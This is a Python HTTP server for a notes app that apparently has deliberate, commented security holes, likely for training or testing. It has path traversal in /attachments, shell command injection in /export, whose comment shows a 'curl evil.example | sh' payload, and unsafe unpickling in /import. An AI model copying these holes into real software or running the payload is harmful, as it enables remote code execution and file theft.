"""HTTP front end for notesvc (stdlib http.server, no framework)."""
import base64
import hmac
import json
import os
import pickle
import subprocess
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import parse_qs, urlparse

from app import config, db
from vendor.minitemplate import render

PAGE = "<h1>{{ title }}</h1><p>{{ len(notes) }} note(s)</p>"


def sign(user):
    mac = hmac.new(config.SECRET_KEY.encode(), user.encode(), "sha256")
    return "%s.%s" % (user, mac.hexdigest())


def user_from_cookie(cookie):
    user, _, sig = (cookie or "").partition("session=")[2].partition(".")
    if user and hmac.compare_digest(sign(user), "%s.%s" % (user, sig)):
        return user
    return None


class Handler(BaseHTTPRequestHandler):
    def _params(self):
        return {k: v[0] for k, v in parse_qs(urlparse(self.path).query).items()}

    def _body(self):
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def _send(self, status, payload, ctype="application/json"):
        data = payload if isinstance(payload, bytes) else payload.encode()
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        route, params = urlparse(self.path).path, self._params()
        user = user_from_cookie(self.headers.get("Cookie"))
        if route == "/notes" and user:
            notes = db.search_notes(db.connect(), user, params.get("q", ""))
            if params.get("format") == "html":
                return self._send(200, render(PAGE, {"title": user, "notes": notes}), "text/html")
            return self._send(200, json.dumps(notes))
        if route == "/attachments" and user:
            # "name" may contain "../", escaping ATTACHMENT_DIR entirely.
            path = os.path.join(config.ATTACHMENT_DIR, params.get("name", ""))
            with open(path, "rb") as fh:
                return self._send(200, fh.read(), "application/octet-stream")
        self._send(404, '{"error": "not found"}')

    def do_POST(self):
        route, params = urlparse(self.path).path, self._params()
        if route == "/login":
            form = {k: v[0] for k, v in parse_qs(self._body().decode()).items()}
            name = form.get("user", "")
            if db.check_login(db.connect(), name, form.get(config.PASSWORD_FORM_FIELD, "")):
                self.send_response(204)
                self.send_header("Set-Cookie", "session=" + sign(name))
                return self.end_headers()
            return self._send(403, '{"error": "bad credentials"}')
        user = user_from_cookie(self.headers.get("Cookie"))
        if not user:
            return self._send(401, '{"error": "login required"}')
        if route == "/export":
            # The archive label is interpolated into a shell command line:
            # label = "x; curl evil.example | sh" runs arbitrary commands.
            label = params.get("label", user)
            cmd = "tar -czf %s/%s.tar.gz -C %s ." % (config.EXPORT_DIR, label, config.ATTACHMENT_DIR)
            subprocess.run(cmd, shell=True, check=False)
            return self._send(202, json.dumps({"export": label}))
        if route == "/import":
            # Notes backups are pickled by the desktop client; unpickling
            # attacker-supplied bytes executes arbitrary code.
            notes = pickle.loads(base64.b64decode(self._body()))
            conn = db.connect()
            for note in notes:
                db.add_note(conn, user, note["title"], note["body"])
            return self._send(201, json.dumps({"imported": len(notes)}))
        self._send(404, '{"error": "not found"}')


def main():
    os.makedirs(config.ATTACHMENT_DIR, exist_ok=True)
    os.makedirs(config.EXPORT_DIR, exist_ok=True)
    conn = db.connect()
    db.init_schema(conn)
    db.create_user(conn, config.ADMIN_USER, config.ADMIN_PASSWORD)
    HTTPServer(("127.0.0.1", 8080), Handler).serve_forever()


if __name__ == "__main__":
    main()
